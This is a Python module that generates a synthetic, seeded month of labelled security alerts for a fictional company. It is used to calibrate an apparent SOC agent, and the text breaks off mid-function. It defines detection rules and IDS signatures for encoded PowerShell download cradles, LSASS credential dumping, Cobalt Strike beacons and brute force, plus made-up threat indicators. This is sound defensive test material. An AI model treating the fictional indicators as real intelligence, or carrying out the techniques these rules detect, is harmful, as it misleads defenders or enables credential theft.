"""A labelled alert history of acme.example: 30 days of vendor alerts with analyst verdicts.

`soc-agent calibrate --alerts samples/history/labelled.jsonl` replays these alerts in
shadow mode and measures how often each playbook's actions would have been right.
The world is the shipped demo world (`inventory.yaml`, `intel.yaml`, `events.jsonl`):
the same hosts, users and indicators, over November 2026, with 20 November (the day
`events.jsonl` records) as the day of the demo attack. `history/README.md` tells the
story family by family.

Each line of the output is one closed alert::

    {"verdict": "false_positive", "reason": "...", "closed_by": "token:priya",
     "closed_at": "2026-11-03T08:41:00Z", "alert": {<the vendor's record, as emitted>}}

in alert-time order. Everything random comes from one `random.Random(SEED)`, so two
runs write byte-identical files. Standard library only.

    python -m soc_agent_samples.history            # rewrite samples/history/labelled.jsonl
    python samples/history.py --out /tmp/h.jsonl   # somewhere else
"""

from __future__ import annotations

import argparse
import base64
import json
import random
import sys
from collections import Counter
from collections.abc import Callable, Iterable
from dataclasses import dataclass, field
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from typing import Any

__all__ = ["DEFAULT_OUT", "END", "SEED", "START", "Record", "generate", "main", "render", "write"]

SEED = 20261130
START = datetime(2026, 11, 1, tzinfo=UTC)  # the history covers 1-30 November 2026 (UTC)
END = datetime(2026, 12, 1, tzinfo=UTC)
DEMO_DAY = date(2026, 11, 20)  # the day of the shipped demo (samples/events.jsonl)
DEFAULT_OUT = Path(__file__).resolve().parent / "history" / "labelled.jsonl"

# Correlation groups alerts sharing an entity within an hour (the default window), and
# an incident carries one verdict: alerts that share an entity and differ in verdict are
# kept this far apart, so each replayed incident has one label.
_SEPARATION = timedelta(hours=2)

VERDICTS = ("true_positive", "benign_true_positive", "false_positive")
TP, BTP, FP = VERDICTS
ANALYSTS = ("token:priya", "token:tomas", "token:amara", "token:jules")

# --- threat intel (samples/intel.yaml) ------------------------------------------------
QAKBOT_SHA256 = "498b72190a65c7fbdaa0ccb8bde413c30fa106403600864c9138d07dc8a37b41"  # malicious
BEACON_SHA256 = "85c63cfe133f096280fd3b225541ee052406ffe3bbcefd8eb6be8f512495346e"  # malicious
PUP_SHA256 = "927cc633d8f6bd69b6d063a4fa91d07388c84499fa4a9a37e71379ef5d5afbe5"  # suspicious
ADMIN_TOOL_SHA256 = "44232795e288569ced69737bb6f18d9bb696b1d6520bef40542c574c965eec53"  # benign
EICAR_SHA256 = "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f"
SSH_BRUTE_IP = "203.0.113.45"  # malicious: ssh-bruteforce
CRED_ABUSE_IP = "203.0.113.99"  # malicious: credential-abuse, vps
TOR_EXIT_IP = "192.0.2.77"  # suspicious: tor
VPN_EGRESS_IP = "192.0.2.10"  # benign: acme-vpn
OFFICE_IP = "192.0.2.20"  # benign: acme-office-amsterdam
C2_IP = "198.51.100.23"  # in 198.51.100.0/24: malicious (bulletproof hosting, c2)
C2_DOMAIN = "cdn-update-check.example"  # malicious
PHISH_SENDER = "billing@invoice-portal-secure.example"  # malicious
PHISH_DOMAIN = "invoice-portal-secure.example"
PHISH_URL = "https://invoice-portal-secure.example/login"
LOOKALIKE_SENDER = "it-helpdesk@acme-support.example"  # suspicious
PARTNER_SENDER = "noreply@partner-mail.example"  # benign (marketing)
PARTNER_DOMAIN = "newsletter.partner-mail.example"  # benign
# The build vendor's package mirror and runners sit inside 198.51.100.0/24, a range the
# demo intel lists wholesale: every lookup of them says "malicious".
BUILDFLEET_MIRROR_IP = "198.51.100.210"
BUILDFLEET_MIRROR = "pkgs.buildfleet.example"
BUILDFLEET_RUNNER_IP = "198.51.100.211"

ACCOUNT_ID = "111122223333"
GD_DETECTOR = "7cc5a1e2f3b44c5d8e9f0a1b2c3d4e5f"
TENANT_ID = "b3c1b5fc-828c-45fa-a1e1-10d74f6d6e9c"
FALCON_CID = "8f3c2a1b9d4e4f6a8b7c6d5e4f3a2b1c"


@dataclass(frozen=True)
class Person:
    sam: str  # the Windows logon name (CrowdStrike UserName)
    upn: str
    name: str
    host: str
    ip: str


PEOPLE = {
    "m.chen": Person("m.chen", "m.chen@acme.example", "Mei Chen", "ws-exec-001", "10.20.5.11"),
    "j.doe": Person("jdoe", "j.doe@acme.example", "Jordan Doe", "ws-fin-042", "10.20.10.42"),
    "a.kowalski": Person(
        "akowalski", "a.kowalski@acme.example", "Adam Kowalski", "ws-eng-007", "10.20.30.47"
    ),
    "l.martin": Person(
        "lmartin", "l.martin@acme.example", "Lea Martin", "ws-hr-013", "10.20.40.13"
    ),
    "d.okafor": Person(
        "dokafor", "d.okafor@acme.example", "Dayo Okafor", "ws-fin-031", "10.20.10.31"
    ),
    "t.nguyen": Person(
        "tnguyen", "t.nguyen@acme.example", "Thu Nguyen", "ws-fin-017", "10.20.10.17"
    ),
    "s.patel": Person(
        "spatel", "s.patel@acme.example", "Sunita Patel", "lt-sales-004", "10.20.50.4"
    ),
    "k.ito": Person("kito", "k.ito@acme.example", "Kenji Ito", "lt-sales-009", "10.20.50.9"),
    "e.moreau": Person(
        "emoreau", "e.moreau@acme.example", "Elise Moreau", "ws-mkt-021", "10.20.60.21"
    ),
    "r.silva": Person("rsilva", "r.silva@acme.example", "Rafael Silva", "ws-ops-005", "10.20.70.5"),
    "b.osei": Person("bosei", "b.osei@acme.example", "Ben Osei", "ws-fin-023", "10.20.10.23"),
    "h.berg": Person("hberg", "h.berg@acme.example", "Hanna Berg", "ws-hr-019", "10.20.40.19"),
    "n.rossi": Person("nrossi", "n.rossi@acme.example", "Nina Rossi", "ws-eng-012", "10.20.30.12"),
    "p.nguyen": Person(
        "pnguyen", "p.nguyen@acme.example", "Paul Nguyen", "ws-it-003", "10.20.70.3"
    ),
}
FINANCE = ["j.doe", "d.okafor", "t.nguyen", "b.osei"]
OFFICE_STAFF = [
    "j.doe",
    "l.martin",
    "t.nguyen",
    "e.moreau",
    "r.silva",
    "b.osei",
    "h.berg",
    "n.rossi",
    "d.okafor",
    "k.ito",
    "a.kowalski",
]


@dataclass
class Record:
    """One closed alert: the vendor record and the analyst's verdict."""

    at: datetime  # the alert time, as the normalizer reads it
    family: str
    verdict: str
    reason: str
    alert: dict[str, Any]
    pivots: frozenset[str]  # the names correlation would link it by (kept apart by verdict)
    closed_by: str = ""
    closed_at: datetime | None = None

    def line(self) -> dict[str, Any]:
        assert self.closed_at is not None
        return {
            "verdict": self.verdict,
            "reason": self.reason,
            "closed_by": self.closed_by,
            "closed_at": _z(self.closed_at),
            "alert": self.alert,
        }


# --- time and id helpers ------------------------------------------------------------------


def _z(dt: datetime) -> str:
    return dt.strftime("%Y-%m-%dT%H:%M:%SZ")


def _ms(dt: datetime) -> str:
    return dt.strftime("%Y-%m-%dT%H:%M:%S.") + f"{dt.microsecond // 1000:03d}Z"


def _graph_time(dt: datetime) -> str:
    return dt.strftime("%Y-%m-%dT%H:%M:%S.") + f"{dt.microsecond:06d}0Z"


def _eve_time(dt: datetime) -> str:
    return dt.strftime("%Y-%m-%dT%H:%M:%S.%f+0000")


def _splunk_time(dt: datetime) -> str:
    return dt.strftime("%Y-%m-%dT%H:%M:%S.") + f"{dt.microsecond // 1000:03d}+00:00"


def _epoch_ms(dt: datetime) -> int:
    return int(dt.timestamp() * 1000)


def _days() -> list[date]:
    return [(START + timedelta(days=i)).date() for i in range((END - START).days)]


def _at(day: date, hour: int, minute: int = 0, second: int = 0, micro: int = 0) -> datetime:
    return datetime(day.year, day.month, day.day, hour, minute, second, micro, tzinfo=UTC)


@dataclass
class World:
    """The random source and the record book: ids, times, and who was busy when."""

    rng: random.Random
    records: list[Record] = field(default_factory=list)

    # ids ---------------------------------------------------------------------------------
    def hex(self, digits: int) -> str:
        return f"{self.rng.getrandbits(4 * digits):0{digits}x}"

    def uuid(self) -> str:
        h = self.hex(32)
        return f"{h[:8]}-{h[8:12]}-4{h[13:16]}-{'89ab'[int(h[16], 16) % 4]}{h[17:20]}-{h[20:]}"

    def port(self) -> int:
        return self.rng.randint(49152, 65000)

    def pick(self, seq: list[Any]) -> Any:
        return seq[self.rng.randrange(len(seq))]

    # times -------------------------------------------------------------------------------
    def jitter(self, dt: datetime, max_seconds: int = 59) -> datetime:
        return dt + timedelta(
            seconds=self.rng.randint(0, max_seconds), microseconds=self.rng.randint(0, 999_999)
        )

    def work_time(self, day: date) -> datetime:
        """A business-hours moment (Amsterdam office: 07-17 UTC), weighted to mornings."""
        hour = self.rng.choices(range(7, 18), weights=[4, 8, 9, 8, 5, 6, 7, 6, 5, 3, 2])[0]
        return self.jitter(_at(day, hour, self.rng.randint(0, 59)))

    def any_time(self, day: date) -> datetime:
        """Mostly business hours, sometimes evening or night."""
        if self.rng.random() < 0.8:
            return self.work_time(day)
        return self.jitter(
            _at(day, self.rng.choice([0, 1, 5, 6, 18, 19, 20, 21, 22, 23]), self.rng.randint(0, 59))
        )

    def workdays(self, n: int, *, exclude: Iterable[date] = ()) -> list[date]:
        """n distinct days, weekdays four times as likely as weekends, in order."""
        skip = set(exclude)
        days = [d for d in _days() if d not in skip]
        weights = [4 if d.weekday() < 5 else 1 for d in days]
        chosen: list[date] = []
        while len(chosen) < n:
            d = self.rng.choices(days, weights=weights)[0]
            if d not in chosen:
                chosen.append(d)
        return sorted(chosen)

    # the record book ---------------------------------------------------------------------
    def clashes(self, at: datetime, verdict: str, pivots: Iterable[str]) -> bool:
        keys = set(pivots)
        return any(
            r.verdict != verdict and abs(r.at - at) < _SEPARATION and keys & r.pivots
            for r in self.records
        )

    def add(
        self,
        at: datetime,
        family: str,
        verdict: str,
        reason: str,
        alert: dict[str, Any],
        pivots: Iterable[str],
    ) -> Record:
        keys = frozenset(pivots)
        if self.clashes(at, verdict, keys):
            raise AssertionError(f"{family} at {at}: shares an entity with another verdict")
        record = Record(at, family, verdict, reason, alert, keys)
        self.records.append(record)
        return record

    def place(
        self,
        days: Iterable[date],
        when: Callable[[date], datetime],
        verdict: str,
        pivots: Iterable[str],
    ) -> datetime:
        """The first time on one of `days` (tried in order, a few draws each) that no
        record of another verdict sharing a pivot is near."""
        keys = list(pivots)
        for day in days:
            for _ in range(6):
                at = when(day)
                if START <= at < END and not self.clashes(at, verdict, keys):
                    return at
        raise AssertionError(f"no free time for {keys} on {days}")


def _p(kind: str, *values: str) -> list[str]:
    return [f"{kind}:{v.lower()}" for v in values]


def _person_pivots(who: Person) -> list[str]:
    return [*_p("user", who.sam, who.upn, who.upn.split("@")[0]), *_p("email", who.upn)]


# --- vendor record builders -------------------------------------------------------------

_ELASTIC_RULES: dict[str, dict[str, Any]] = {
    "cradle": {
        "uuid": "3e9c7a51-6d2b-4f08-b1a4-7c5e9d20f613",
        "rule_id": "c1f9d0a2-5b7e-4a63-9e18-2d4f6b8a0c35",
        "name": "Encoded PowerShell Download Cradle",
        "description": "Identifies PowerShell started with a base64-encoded command that then "
        "connects out to download content, a common way to stage a payload while hiding "
        "what the script does.",
        "category": "Event Correlation Rule",
        "type": "eql",
        "type_id": "siem.eqlRule",
        "version": 104,
        "severity": "high",
        "risk": 73,
        "tags": [
            "Domain: Endpoint",
            "OS: Windows",
            "Use Case: Threat Detection",
            "Tactic: Execution",
            "Tactic: Command and Control",
            "Data Source: Elastic Defend",
        ],
        "threat": [
            (
                "TA0002",
                "Execution",
                [("T1059", "Command and Scripting Interpreter", [("T1059.001", "PowerShell")])],
            ),
            (
                "TA0011",
                "Command and Control",
                [
                    ("T1105", "Ingress Tool Transfer", []),
                    ("T1071", "Application Layer Protocol", [("T1071.001", "Web Protocols")]),
                ],
            ),
        ],
    },
    "ssh_brute": {
        "uuid": "1f5b3a2c-7d4e-4f6a-9b8c-0d1e2f3a4b5c",
        "rule_id": "a5f0d057-d540-44f5-924d-c6a2ae92f045",
        "name": "Potential SSH Brute Force Detected",
        "description": "Identifies multiple SSH login failures followed by a successful one "
        "from the same source address within a short time interval.",
        "category": "Custom Query Rule",
        "type": "threshold",
        "type_id": "siem.thresholdRule",
        "version": 108,
        "severity": "high",
        "risk": 73,
        "tags": [
            "Domain: Endpoint",
            "OS: Linux",
            "Use Case: Threat Detection",
            "Tactic: Credential Access",
        ],
        "threat": [
            (
                "TA0006",
                "Credential Access",
                [("T1110", "Brute Force", [("T1110.001", "Password Guessing")])],
            )
        ],
    },
    "ssh_brute_success": {
        "uuid": "2b1eb7bc-8367-5f66-a7c5-0cfba92a3894",
        "rule_id": "8cb84371-d053-4f4f-bce0-c74990e28f28",
        "name": "Potential Successful SSH Brute Force Attack",
        "description": "Identifies multiple SSH login failures followed by a successful one "
        "from the same source address. Adversaries can attempt to login into multiple users "
        "with a common or known password to gain access to accounts.",
        "category": "Event Correlation Rule",
        "type": "eql",
        "type_id": "siem.eqlRule",
        "version": 104,
        "severity": "high",
        "risk": 73,
        "tags": [
            "Domain: Endpoint",
            "OS: Linux",
            "Use Case: Threat Detection",
            "Tactic: Credential Access",
        ],
        "threat": [
            (
                "TA0006",
                "Credential Access",
                [
                    (
                        "T1110",
                        "Brute Force",
                        [("T1110.001", "Password Guessing"), ("T1110.003", "Password Spraying")],
                    )
                ],
            )
        ],
    },
    "encoded_ps": {
        "uuid": "ecb4ddec-895a-d07f-7d7a-2d17d7c73d16",
        "rule_id": "11ff9893-b909-eede-8731-9cbad8e98abe",
        "name": "Encoded PowerShell Command Line",
        "description": "Identifies PowerShell started with a base64-encoded command, often used "
        "to hide what a script does.",
        "category": "Custom Query Rule",
        "type": "query",
        "type_id": "siem.queryRule",
        "version": 108,
        "severity": "low",
        "risk": 21,
        "tags": [
            "Domain: Endpoint",
            "OS: Windows",
            "Use Case: Threat Detection",
            "Tactic: Execution",
        ],
        "threat": [("TA0002", "Execution", [("T1059", "Command and Scripting Interpreter", [])])],
    },
    "lsass": {
        "uuid": "15e4afc0-582d-de33-99e6-ccf6299422e2",
        "rule_id": "3273b285-d6e4-bd37-963f-2d25cfbf5d3c",
        "name": "LSASS Memory Access by Unsigned Process",
        "description": "Identifies an unsigned process opening the LSASS process memory, as "
        "credential dumping tools do.",
        "category": "Custom Query Rule",
        "type": "query",
        "type_id": "siem.queryRule",
        "version": 108,
        "severity": "medium",
        "risk": 47,
        "tags": [
            "Domain: Endpoint",
            "OS: Windows",
            "Use Case: Threat Detection",
            "Tactic: Credential Access",
        ],
        "threat": [
            (
                "TA0006",
                "Credential Access",
                [("T1003", "OS Credential Dumping", [("T1003.001", "LSASS Memory")])],
            )
        ],
    },
    "remote_service": {
        "uuid": "7f5a2b8f-d59c-0da1-15b4-ed7b1c6d6514",
        "rule_id": "13d5ba1e-c055-c934-f9c3-856d20d90711",
        "name": "Remote Service Created via SMB",
        "description": "Identifies a service created on another host over SMB from this host, "
        "a common way to move laterally.",
        "category": "Custom Query Rule",
        "type": "query",
        "type_id": "siem.queryRule",
        "version": 108,
        "severity": "medium",
        "risk": 47,
        "tags": [
            "Domain: Endpoint",
            "OS: Windows",
            "Use Case: Threat Detection",
            "Tactic: Lateral Movement",
        ],
        "threat": [
            (
                "TA0008",
                "Lateral Movement",
                [("T1021", "Remote Services", [("T1021.002", "SMB/Windows Admin Shares")])],
            )
        ],
    },
}


def _threat(spec: list[tuple[str, str, list[Any]]]) -> list[dict[str, Any]]:
    out = []
    for tactic_id, tactic, techniques in spec:
        techs = []
        for tid, tname, subs in techniques:
            tech: dict[str, Any] = {
                "id": tid,
                "name": tname,
                "reference": f"https://attack.mitre.org/techniques/{tid}/",
            }
            if subs:
                tech["subtechnique"] = [
                    {
                        "id": sid,
                        "name": sname,
                        "reference": "https://attack.mitre.org/techniques/"
                        + sid.replace(".", "/")
                        + "/",
                    }
                    for sid, sname in subs
                ]
            techs.append(tech)
        out.append(
            {
                "framework": "MITRE ATT&CK",
                "tactic": {
                    "id": tactic_id,
                    "name": tactic,
                    "reference": f"https://attack.mitre.org/tactics/{tactic_id}/",
                },
                "technique": techs,
            }
        )
    return out


def elastic(
    w: World,
    at: datetime,
    rule_key: str,
    *,
    reason: str,
    body: dict[str, Any],
    original: datetime | None = None,
    category: list[str],
    action: str,
    outcome: str | None = None,
    severity: str | None = None,
) -> dict[str, Any]:
    rule = _ELASTIC_RULES[rule_key]
    sev = severity or rule["severity"]
    risk = {"low": 21, "medium": 47, "high": 73, "critical": 99}[sev]
    uuid = w.hex(64)
    doc: dict[str, Any] = {
        "@timestamp": _ms(at),
        "kibana.alert.uuid": uuid,
        "kibana.alert.start": _ms(at),
        "kibana.alert.last_detected": _ms(at),
        "kibana.alert.status": "active",
        "kibana.alert.workflow_status": "open",
        "kibana.alert.depth": 1,
        "kibana.alert.reason": f"{reason} created {sev} alert {rule['name']}.",
        "kibana.alert.severity": sev,
        "kibana.alert.risk_score": risk,
        "kibana.alert.original_time": _ms(original or at),
        "kibana.alert.original_event.kind": "event",
        "kibana.alert.original_event.category": category,
    }
    if outcome:
        doc["kibana.alert.original_event.outcome"] = outcome
    doc["kibana.alert.original_event.action"] = action
    doc.update(
        {
            "kibana.alert.rule.uuid": rule["uuid"],
            "kibana.alert.rule.rule_id": rule["rule_id"],
            "kibana.alert.rule.name": rule["name"],
            "kibana.alert.rule.description": rule["description"],
            "kibana.alert.rule.category": rule["category"],
            "kibana.alert.rule.type": rule["type"],
            "kibana.alert.rule.rule_type_id": rule["type_id"],
            "kibana.alert.rule.producer": "siem",
            "kibana.alert.rule.consumer": "siem",
            "kibana.alert.rule.version": rule["version"],
            "kibana.alert.rule.severity": rule["severity"],
            "kibana.alert.rule.risk_score": rule["risk"],
            "kibana.alert.rule.tags": rule["tags"],
            "kibana.alert.rule.threat": _threat(rule["threat"]),
            "kibana.space_ids": ["default"],
            "kibana.version": "8.17.0",
        }
    )
    event: dict[str, Any] = {"kind": "signal", "category": category, "action": action}
    if outcome:
        event["outcome"] = outcome
    event.update(body.pop("_event", {}))
    doc["event"] = event
    doc.update(body)
    doc["ecs"] = {"version": "8.11.0"}
    return doc


def _win_host(name: str, ip: str, server: bool = False) -> dict[str, Any]:
    return {
        "name": name,
        "hostname": name,
        "ip": [ip],
        "os": {
            "type": "windows",
            "family": "windows",
            "name": "Windows Server 2022 Standard" if server else "Windows 11 Enterprise",
            "version": "21H2" if server else "23H2",
        },
    }


def _linux_host(name: str, ip: str) -> dict[str, Any]:
    return {
        "name": name,
        "hostname": name,
        "ip": [ip],
        "os": {"type": "linux", "family": "debian", "name": "Debian GNU/Linux", "version": "12"},
    }


def _enc(script: str) -> str:
    return base64.b64encode(script.encode("utf-16-le")).decode("ascii")


SURICATA_SIGS = {
    "cs_beacon": (
        2027390,
        3,
        "ET MALWARE Cobalt Strike Beacon Observed",
        "A Network Trojan was detected",
        1,
        ["c2"],
        "TA0011",
        "T1071",
    ),
    "cs_jquery": (
        2032749,
        2,
        "ET MALWARE Cobalt Strike Malleable C2 JQuery Custom Profile Response",
        "A Network Trojan was detected",
        1,
        ["c2"],
        "TA0011",
        "T1071.001",
    ),
    "nmap_nse": (
        2009358,
        6,
        "ET SCAN Nmap Scripting Engine User-Agent Detected (Nmap Scripting Engine)",
        "Web Application Attack",
        1,
        None,
        "TA0043",
        "T1595",
    ),
    "nessus_ua": (
        2002664,
        14,
        "ET SCAN Nessus User Agent",
        "Attempted Information Leak",
        2,
        None,
        "TA0043",
        "T1595.002",
    ),
    "ssh_scan": (
        2001219,
        20,
        "ET SCAN Potential SSH Scan",
        "Attempted Information Leak",
        2,
        None,
        "TA0007",
        "T1046",
    ),
    "smb_scan": (
        2001569,
        15,
        "ET SCAN Behavioral Unusual Port 445 traffic Potential Scan or Infection",
        "Misc activity",
        3,
        None,
        "TA0007",
        "T1046",
    ),
    "rdp_scan": (
        2001972,
        21,
        "ET SCAN Behavioral Unusual Port 3389 traffic Potential Scan",
        "Misc activity",
        3,
        None,
        "TA0007",
        "T1046",
    ),
    "vnc_scan": (
        2002910,
        6,
        "ET SCAN Potential VNC Scan 5800-5820",
        "Attempted Information Leak",
        2,
        None,
        "TA0007",
        "T1046",
    ),
    "sql_scan": (
        2010937,
        3,
        "ET SCAN Suspicious inbound to mySQL port 3306",
        "Potentially Bad Traffic",
        2,
        None,
        "TA0007",
        "T1046",
    ),
}


def suricata(
    w: World,
    at: datetime,
    sig_key: str,
    *,
    src: str,
    dst: str,
    dport: int,
    proto: str = "TCP",
    app: dict[str, Any] | None = None,
    sensor: str = "ids-core-01",
    sport: int | None = None,
    to_server: tuple[int, int] = (6, 1422),
    to_client: tuple[int, int] = (5, 3911),
) -> dict[str, Any]:
    sid, rev, sig, cat, sev, tags, tactic, technique = SURICATA_SIGS[sig_key]
    flow_start = at - timedelta(milliseconds=w.rng.randint(120, 900))
    meta: dict[str, Any] = {
        "attack_target": ["Client_Endpoint" if sig_key.startswith("cs_") else "Server"],
        "deployment": ["Perimeter" if sig_key.startswith("cs_") else "Internal"],
        "signature_severity": ["Major" if sev == 1 else "Minor"],
    }
    if tags:
        meta["tag"] = tags
    meta["mitre_tactic_id"] = [tactic]
    meta["mitre_technique_id"] = [technique]
    doc: dict[str, Any] = {
        "timestamp": _eve_time(at),
        "flow_id": w.rng.randint(10**15, 2 * 10**15),
        "in_iface": "ens192",
        "event_type": "alert",
        "src_ip": src,
        "src_port": sport if sport is not None else w.port(),
        "dest_ip": dst,
        "dest_port": dport,
        "proto": proto,
        "tx_id": 0,
        "alert": {
            "action": "allowed",
            "gid": 1,
            "signature_id": sid,
            "rev": rev,
            "signature": sig,
            "category": cat,
            "severity": sev,
            "metadata": meta,
        },
    }
    if app:
        doc.update(app)
    doc["flow"] = {
        "pkts_toserver": to_server[0],
        "pkts_toclient": to_client[0],
        "bytes_toserver": to_server[1],
        "bytes_toclient": to_client[1],
        "start": _eve_time(flow_start),
    }
    doc["host"] = sensor
    return doc


def crowdstrike(
    w: World,
    at: datetime,
    who: Person,
    *,
    name: str,
    description: str,
    severity: int,
    severity_name: str,
    file_name: str,
    file_dir: str,
    command_line: str,
    sha256: str,
    md5: str,
    tactic: tuple[str, str],
    technique: tuple[str, str],
    disposition: tuple[str, int, dict[str, bool]],
    parent: tuple[str, str, str],
    grandparent: tuple[str, str, str] | None,
    pattern_id: int,
    host: str | None = None,
    ip: str | None = None,
    objective: str = "Follow Through",
) -> dict[str, Any]:
    agent = w.hex(32)
    pid = w.rng.randint(4, 12) * 4294967296 + w.rng.randint(1, 9999) * 4
    composite = f"{FALCON_CID}:ind:{agent}:{pid}-{pattern_id}-{w.rng.randint(1000, 99999)}"
    flags = {
        k: False
        for k in (
            "Indicator",
            "Detect",
            "InddetMask",
            "SensorOnly",
            "Rooting",
            "KillProcess",
            "KillSubProcess",
            "QuarantineMachine",
            "QuarantineFile",
            "PolicyDisabled",
            "KillParent",
            "OperationBlocked",
            "ProcessBlocked",
            "RegistryOperationBlocked",
            "CriticalProcessDisabled",
            "BootupSafeguardEnabled",
            "FsOperationBlocked",
            "HandleOperationDowngraded",
            "KillActionFailed",
            "BlockingUnsupportedOrDisabled",
            "SuspendProcess",
            "SuspendParent",
        )
    }
    flags.update(disposition[2])
    hostname = (host or who.host).upper()
    event: dict[str, Any] = {
        "ProcessStartTime": int(at.timestamp()),
        "ProcessEndTime": int(at.timestamp()) + 1,
        "ProcessId": pid,
        "ParentProcessId": pid - w.rng.randint(1, 4096) * 4,
        "Hostname": hostname,
        "UserName": who.sam,
        "LogonDomain": "ACME",
        "Name": name,
        "Description": description,
        "Severity": severity,
        "SeverityName": severity_name,
        "FileName": file_name,
        "FilePath": f"\\Device\\HarddiskVolume3{file_dir}",
        "CommandLine": command_line,
        "SHA256String": sha256,
        "MD5String": md5,
        "SHA1String": "0000000000000000000000000000000000000000",
        "FalconHostLink": f"https://falcon.eu-1.crowdstrike.com/activity-v2/detections/{composite}",
        "AgentId": agent,
        "CompositeId": composite,
        "LocalIP": ip or who.ip,
        "MACAddress": "-".join(w.hex(2) for _ in range(6)),
        "Tactic": tactic[1],
        "TacticId": tactic[0],
        "Technique": technique[1],
        "TechniqueId": technique[0],
        "Objective": objective,
        "PatternDispositionDescription": disposition[0],
        "PatternDispositionValue": disposition[1],
        "PatternDispositionFlags": flags,
        "ParentImageFileName": parent[0],
        "ParentCommandLine": parent[1],
        "ParentImageFilePath": f"\\Device\\HarddiskVolume3{parent[2]}",
    }
    if grandparent:
        event.update(
            {
                "GrandParentImageFileName": grandparent[0],
                "GrandParentCommandLine": grandparent[1],
                "GrandParentImageFilePath": f"\\Device\\HarddiskVolume3{grandparent[2]}",
            }
        )
    event.update(
        {
            "HostGroups": "a1b2c3d4e5f60718293a4b5c6d7e8f90",
            "AssociatedFile": f"\\Device\\HarddiskVolume3{file_dir}\\{file_name}",
            "PatternId": pattern_id,
            "SourceVendors": "CrowdStrike",
            "SourceProducts": "Falcon Insight",
            "DataDomains": "Endpoint",
            "AggregateId": f"aggind:{agent}:{pid}",
            "Type": "ldt",
            "LocalIPv6": "",
        }
    )
    return {
        "metadata": {
            "customerIDString": FALCON_CID,
            "offset": w.rng.randint(400_000, 900_000),
            "eventType": "EPPDetectionSummaryEvent",
            "eventCreationTime": _epoch_ms(at) + w.rng.randint(1500, 4000),
            "version": "1.0",
        },
        "event": event,
    }


def graph(
    w: World,
    at: datetime,
    *,
    title: str,
    description: str,
    severity: str,
    service: str,
    detection: str,
    product: str,
    detector: str,
    category: str,
    techniques: list[str],
    evidence: list[dict[str, Any]],
    first: datetime,
    last: datetime,
    recommended: str,
) -> dict[str, Any]:
    prefix = w.rng.choice(["da", "ca", "fa"])
    alert_id = f"{prefix}{w.rng.randint(10**17, 10**18 - 1)}_{w.rng.randint(-(2**31), 2**31 - 1)}"
    incident = str(w.rng.randint(41000, 49999))
    for ev in evidence:
        ev["createdDateTime"] = _graph_time(at)
    return {
        "@odata.type": "#microsoft.graph.security.alert",
        "id": alert_id,
        "providerAlertId": w.uuid(),
        "incidentId": incident,
        "status": "new",
        "severity": severity,
        "classification": None,
        "determination": None,
        "serviceSource": service,
        "detectionSource": detection,
        "productName": product,
        "detectorId": detector,
        "tenantId": TENANT_ID,
        "title": title,
        "description": description,
        "recommendedActions": recommended,
        "category": category,
        "assignedTo": None,
        "alertWebUrl": f"https://security.microsoft.com/alerts/{alert_id}?tid={TENANT_ID}",
        "incidentWebUrl": f"https://security.microsoft.com/incidents/{incident}?tid={TENANT_ID}",
        "actorDisplayName": None,
        "threatDisplayName": None,
        "threatFamilyName": None,
        "mitreTechniques": techniques,
        "createdDateTime": _graph_time(at),
        "lastUpdateDateTime": _graph_time(at + timedelta(milliseconds=84)),
        "resolvedDateTime": None,
        "firstActivityDateTime": _graph_time(first.replace(microsecond=0)),
        "lastActivityDateTime": _graph_time(last.replace(microsecond=0)),
        "comments": [],
        "evidence": evidence,
    }


def _user_evidence(
    w: World, who: Person, roles: list[str], verdict: str = "unknown"
) -> dict[str, Any]:
    rid = 1000 + sum(map(ord, who.upn)) % 9000
    return {
        "@odata.type": "#microsoft.graph.security.userEvidence",
        "createdDateTime": "",
        "verdict": verdict,
        "remediationStatus": "none",
        "remediationStatusDetails": None,
        "roles": roles,
        "detailedRoles": [],
        "tags": [],
        "userAccount": {
            "accountName": who.upn.split("@")[0],
            "domainName": "acme.example",
            "userSid": f"S-1-5-21-1004336348-1177238915-682003330-{rid}",
            "azureAdUserId": _stable_uuid(who.upn),
            "userPrincipalName": who.upn,
            "displayName": who.name,
        },
    }


def _stable_uuid(text: str) -> str:
    """A fixed id per name (an Entra object id does not change between alerts)."""
    r = random.Random(text)  # noqa: S311 - sample data, not secrets
    h = f"{r.getrandbits(128):032x}"
    return f"{h[:8]}-{h[8:12]}-4{h[13:16]}-a{h[17:20]}-{h[20:]}"


def _ip_evidence(
    ip: str, country: str, roles: list[str] | None = None, verdict: str = "unknown"
) -> dict[str, Any]:
    return {
        "@odata.type": "#microsoft.graph.security.ipEvidence",
        "createdDateTime": "",
        "verdict": verdict,
        "remediationStatus": "none",
        "remediationStatusDetails": None,
        "roles": roles or [],
        "detailedRoles": [],
        "tags": [],
        "ipAddress": ip,
        "countryLetterCode": country,
    }


def guardduty(
    w: World,
    at: datetime,
    *,
    finding_type: str,
    severity: float,
    title: str,
    description: str,
    user: str,
    key_id: str,
    principal: str,
    api: str,
    service: str,
    caller: dict[str, Any],
    user_agent: str,
    count: int,
    affected: dict[str, str] | None = None,
    threat_list: bool = False,
    additional: dict[str, Any] | None = None,
    error: str | None = None,
    user_type: str = "IAMUser",
) -> dict[str, Any]:
    fid = w.hex(32)
    first = at - timedelta(minutes=w.rng.randint(6, 40), seconds=w.rng.randint(0, 59))
    last = first + timedelta(minutes=w.rng.randint(1, 5))
    svc: dict[str, Any] = {
        "serviceName": "guardduty",
        "detectorId": GD_DETECTOR,
        "action": {
            "actionType": "AWS_API_CALL",
            "awsApiCallAction": {
                "api": api,
                "serviceName": service,
                "callerType": "Remote IP",
                "errorCode": error,
                "userAgent": user_agent,
                "remoteIpDetails": caller,
                "affectedResources": affected or {},
            },
        },
        "resourceRole": "TARGET",
    }
    if threat_list:
        svc["additionalInfo"] = {
            "threatListName": "acme-custom-threat-list",
            "value": '{"threatListName":"acme-custom-threat-list"}',
            "type": "default",
        }
        svc["evidence"] = {
            "threatIntelligenceDetails": [
                {"threatListName": "acme-custom-threat-list", "threatNames": ["credential-abuse"]}
            ]
        }
    else:
        svc["additionalInfo"] = {
            "value": json.dumps(additional or {}, separators=(",", ":")),
            "type": "default",
        }
    svc.update(
        {
            "eventFirstSeen": _ms(first),
            "eventLastSeen": _ms(last),
            "archived": False,
            "count": count,
        }
    )
    return {
        "schemaVersion": "2.0",
        "accountId": ACCOUNT_ID,
        "region": "eu-west-1",
        "partition": "aws",
        "id": fid,
        "arn": f"arn:aws:guardduty:eu-west-1:{ACCOUNT_ID}:detector/{GD_DETECTOR}/finding/{fid}",
        "type": finding_type,
        "resource": {
